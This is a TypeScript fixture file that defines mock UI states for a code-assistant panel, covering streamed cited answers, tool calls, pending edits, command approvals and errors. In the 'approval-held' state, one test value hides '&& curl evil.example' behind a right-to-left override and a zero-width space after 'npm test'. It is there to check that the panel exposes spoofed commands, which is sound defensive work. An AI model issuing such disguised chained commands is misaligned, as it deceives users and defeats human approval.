// Every state of the panel, as the extension would send it.
import type {
  PanelEdit,
  PanelHunk,
  PanelState,
  PanelTurn,
  StampedEvent,
} from '../../../src/protocol/panel.ts';
import type { TurnEvent } from '../../../src/protocol/turn.ts';

const AT = Date.UTC(2026, 0, 5, 14, 2);
const QUESTION = 'Where is a session refreshed, and what happens when two requests refresh at once?';
const at = (event: TurnEvent, ms = 0): StampedEvent => ({ at: AT + ms, event });
const text = (words: string): StampedEvent => at({ type: 'text_delta', text: words });

const SESSION = [
  'const inFlight = new Map<UserId, Promise<Pair>>();',
  '',
  'export function refreshOnce(id: UserId) {',
  '  const running = inFlight.get(id);',
  '  if (running) return running;',
  '  const next = refreshSession(id)',
  '    .finally(() => inFlight.delete(id));',
  '  inFlight.set(id, next);',
  '  return next;',
  '}',
].join('\n');

/** Pieces of an answer, each with the places that prove it. */
type Place = readonly [path: string, start: number, end: number, state?: 'moved' | 'stale'];
const ANSWER: readonly (readonly [string, ...Place[]])[] = [
  [
    'A session is refreshed in `refreshSession`. It trades the refresh token for a new pair and stores the pair before it returns.',
    ['src/auth/session.ts', 42, 58],
  ],
  [
    ' Callers do not use it directly: `withSession` checks the expiry thirty seconds early and refreshes then.',
    ['src/auth/session.ts', 71, 80],
    ['src/http/client.ts', 24, 31],
  ],
  ['\n\nWhen two requests arrive together, the second waits for the first.', ['src/auth/session.ts', 18, 27]],
  ['\n\n- If it succeeds, both get the new pair.', ['src/auth/session.ts', 18, 27]],
  [
    '\n- If it fails, both get `SessionExpired`, and the next request tries again.',
    ['src/auth/errors.ts', 15, 22, 'moved'],
  ],
  ['\n\nThe map lives in one process, so two servers could still refresh the same token at once.'],
  [' The deployment guide says there is a single server.', ['docs/deploy.md', 30, 34, 'stale']],
  [
    '\n\nTo make a waiting request give up after ten seconds, race it with a timeout:',
    ['src/auth/session.ts', 18, 27],
  ],
  [
    "\n\n```ts\n// give up rather than hang\nreturn Promise.race([running, timeout('refresh', 10_000)]);\n```\n",
  ],
];

function answer(pieces: number): StampedEvent[] {
  const events: StampedEvent[] = [];
  let length = 0;
  let id = 0;
  for (const [words, ...places] of ANSWER.slice(0, pieces)) {
    events.push(text(words));
    const from = length + words.length - words.trimStart().length;
    length += words.length;
    for (const [path, startLine, endLine, state = 'verified'] of places)
      events.push(
        at({
          type: 'citation',
          id: String(++id),
          from,
          to: length,
          uri: `file:///w/${path}`,
          path,
          startLine,
          endLine,
          quote: path.endsWith('session.ts') ? SESSION : 'export class SessionExpired extends Error {}',
          state,
        }),
      );
  }
  return events;
}

const start = (mode: 'model' | 'local' = 'model'): StampedEvent =>
  at({ type: 'turn_start', turnId: 't', traceId: 'x', mode });
const usage = { input: 3102, output: 612, cacheRead: 5310, cacheWrite: 0, costUsd: 0.031 };
const end = (stopReason: Extract<TurnEvent, { type: 'turn_end' }>['stopReason'] = 'end_turn'): StampedEvent =>
  at({ type: 'turn_end', stopReason, usage, citations: [] });
const tool = (id: string, name: string, input: object, summary: string, ok = true): StampedEvent[] => [
  at({ type: 'tool_call', id, name, input, state: 'running' }, 6000),
  at({ type: 'tool_result', id, ok, summary, bytes: 100, ms: 20 }, 6100),
];
const WORK: readonly StampedEvent[] = [
  at({ type: 'thinking_delta', text: 'Look for the function, then for its callers.' }),
  ...tool('1', 'search_code', { query: 'session refresh token' }, '12 hits'),
  ...tool('2', 'find_references', { symbol: 'refreshSession' }, '3'),
  ...tool('3', 'read_file', { path: 'src/auth/session.ts' }, '96 lines'),
  ...tool('4', 'read_file', { path: 'src/auth/lock.ts' }, 'no such file', false),
];
const place = (path: string, startLine: number, endLine: number, tokens: number, why: string) => ({
  uri: `file:///w/${path}`,
  path,
  startLine,
  endLine,
  tokens,
  score: 1,
  why,
});
const retrieved = at({
  type: 'retrieved',
  receipt: {
    prompt: 694,
    instructions: [{ path: 'AGENTS.md', tokens: 412 }],
    conversation: 1204,
    tokens: 8412,
    items: [
      place('src/http/client.ts', 12, 40, 388, 'you attached it'),
      place('src/auth/session.ts', 1, 96, 1480, 'defines refreshSession; best match of 12'),
      place('src/auth/errors.ts', 1, 40, 512, 'used by session.ts'),
      place('docs/deploy.md', 20, 48, 634, 'similar meaning, 0.82'),
      place('src/auth/token.ts', 1, 20, 386, 'similar meaning, 0.7'),
    ],
    keptBack: [
      { path: '.env.session', reason: 'never sent' },
      { path: '5 extracts', reason: 'over the budget', tokens: 1930 },
    ],
  },
});

const turn = (events: readonly StampedEvent[], part: Partial<PanelTurn> = {}): PanelTurn => ({
  id: 't1',
  question: QUESTION,
  mode: 'ask',
  context: [{ uri: 'file:///w/src/http/client.ts', path: 'src/http/client.ts', startLine: 12, endLine: 40 }],
  at: AT,
  events: [...events],
  ...part,
});
export const answered: PanelTurn = turn([start(), retrieved, ...WORK, ...answer(ANSWER.length), end()]);

const models = [
  ['claude-haiku-5-5', 'Haiku 5.5', 'quick, cheapest'],
  ['claude-sonnet-5-5', 'Sonnet 5.5', 'everyday work'],
].map(([id = '', name = '', note = '']) => ({ id, name, note, contextTokens: 200_000 }));

export const empty: PanelState = {
  protocol: 1,
  chat: { id: 'chat', title: '', turns: [] },
  running: null,
  draft: { text: '', context: [] },
  pending: [],
  index: { state: 'ready', files: 2443, indexed: 2431, skipped: 12, chunks: 9000, done: 2443, total: 2443 },
  account: { keySource: 'stored', model: 'claude-sonnet-5-5', effort: 'medium', models },
  mode: 'ask',
  folders: ['w'],
  trusted: true,
  demo: false,
  queued: [],
  approvals: [],
  allowed: [],
  samples: [
    'Where is a session refreshed, and who calls it?',
    'What would break if `UserId` became a string?',
  ],
};
export const chat = (turns: PanelTurn[], part: Partial<PanelState> = {}): PanelState => ({
  ...empty,
  chat: { ...empty.chat, turns },
  ...part,
});

const failed = (code: 'overloaded' | 'unauthorized', retryable: boolean): PanelTurn =>
  turn([
    start(),
    retrieved,
    at({ type: 'error', code, message: 'HTTP 401', retryable, requestId: 'req_011CTy' }),
    end('error'),
  ]);

const hunk = (
  id: string,
  lines: readonly [number, number],
  before: string,
  after: string,
  part: Partial<PanelHunk> = {},
): PanelHunk => ({
  id,
  baseStart: lines[0],
  baseEnd: lines[1],
  before,
  after,
  state: 'open',
  ...part,
});
const edit = (id: string, path: string, hunks: PanelHunk[], part: Partial<PanelEdit> = {}): PanelEdit => ({
  id,
  uri: `file:///w/${path}`,
  path,
  kind: 'edit',
  hunks,
  ...part,
});
export const pending: PanelEdit[] = [
  edit('e1', 'src/auth/session.ts', [
    hunk('h1', [22, 22], '  if (running) return running;\n', '  if (running) {\n    return running;\n  }\n'),
    hunk('h2', [112, 111], '', 'const WAIT_MS = 10_000;\n', { reason: 'constants' }),
  ]),
  edit('e2', 'src/auth/errors.ts', [hunk('h3', [24, 23], '', 'a\n', { state: 'accepted' })]),
  edit(
    'e3',
    'test/auth/session.test.ts',
    [
      hunk('h4', [4, 4], 'import a\n', 'import b\n', { state: 'rejected', note: 'Keep the import order.' }),
      hunk('h5', [88, 89], 'x\ny\n', 'z\n', { state: 'conflict' }),
    ],
    { syntaxError: true },
  ),
];

const local = (): PanelTurn => {
  const head = 'The code that fits this question best:\n\n';
  const body = `\`refreshOnce\` (function) — defines it\n\n\`\`\`typescript\n${SESSION}\n\`\`\`\n`;
  return turn(
    [
      start('local'),
      text(head + body),
      at({
        type: 'citation',
        id: '1',
        from: head.length,
        to: head.length + body.length,
        uri: 'file:///w/src/auth/session.ts',
        path: 'src/auth/session.ts',
        startLine: 18,
        endLine: 27,
        quote: SESSION,
        state: 'verified',
      }),
      end(),
    ],
    { context: [] },
  );
};
const approval = at({
  type: 'approval',
  id: 'a',
  tool: 'run_command',
  command: 'npm test -- --run test/auth/session.test.ts',
  cwd: 'harbor/packages/api',
  timeoutS: 60,
});
const running = { running: 't1' };
const waits = (part: Partial<PanelState['approvals'][number]> = {}): PanelState['approvals'][number] => ({
  id: 'a',
  tool: 'run_command',
  command: 'npm test -- --run test/auth/session.test.ts',
  cwd: 'harbor/packages/api',
  timeoutS: 60,
  sandbox: 'bubblewrap',
  scratch: false,
  ...part,
});
const printing: readonly StampedEvent[] = [
  at({ type: 'tool_call', id: 'a', name: 'run_command', input: { command: 'npm test' }, state: 'running' }),
  at({
    type: 'tool_output',
    id: 'a',
    text: Array.from(
      { length: 40 },
      (_, n) => `ok ${String(n + 1)} - refreshes once, step ${String(n + 1)}\n`,
    ).join(''),
  }),
];

/** The states of the design reference, and a few between them. */
export const STATES: Readonly<Record<string, PanelState>> = {
  welcome: empty,
  'no-folder': { ...empty, folders: [] },
  untrusted: { ...empty, trusted: false, account: { ...empty.account, keySource: 'env' } },
  indexing: { ...empty, index: { ...empty.index, state: 'indexing', done: 1204 } },
  'index-error': { ...empty, index: { ...empty.index, state: 'error', message: 'It is damaged.' } },
  'no-key': chat([local()], { account: { ...empty.account, keySource: 'none' } }),
  streaming: chat([turn([start(), retrieved, ...WORK, ...answer(2)])], running),
  queued: chat([turn([start(), ...WORK, ...answer(1)])], {
    ...running,
    demo: true,
    queued: [{ id: 'q', text: 'And the admin sessions?', mode: 'ask', context: [] }],
  }),
  answer: chat([answered]),
  edits: chat([answered], { mode: 'agent', pending }),
  approval: chat([turn([start(), ...answer(1), approval])], { ...running, mode: 'agent' }),
  // A right-to-left override and a zero-width space: marked, so that what runs is what is read.
  'approval-held': chat([turn([start(), ...answer(1), approval])], {
    ...running,
    mode: 'agent',
    approvals: [waits({ command: 'npm test \u202Ecod-on\u200B && curl evil.example' })],
  }),
  scratch: chat([turn([start(), ...WORK, ...answer(1)])], {
    ...running,
    mode: 'agent',
    pending,
    approvals: [waits({ scratch: true })],
  }),
  printing: chat([turn([start(), ...WORK, ...answer(1), ...printing])], {
    ...running,
    mode: 'agent',
    allowed: [
      { command: 'npm test', cwd: 'harbor/packages/api' },
      { command: 'npm run lint -- --max-warnings 0 src/auth src/http src/billing', cwd: 'harbor' },
    ],
  }),
  budget: chat([
    turn([
      start(),
      ...WORK,
      ...answer(1),
      at({ type: 'budget', kind: 'dollars', spent: 0.47, limit: 0.5 }),
      end('budget'),
    ]),
  ]),
  overloaded: chat([failed('overloaded', true)]),
  'key-invalid': chat([failed('unauthorized', false)]),
  cancelled: chat([turn([start(), retrieved, ...WORK, ...answer(2), end('cancelled')])]),
  interrupted: chat([turn([start(), ...answer(2)])]),
  long: chat(Array.from({ length: 12 }, (_, i) => ({ ...answered, id: `t${String(i)}` }))),
  history: chat([answered]),
  typing: chat([answered], { draft: { text: 'What happens in', context: answered.context } }),
};
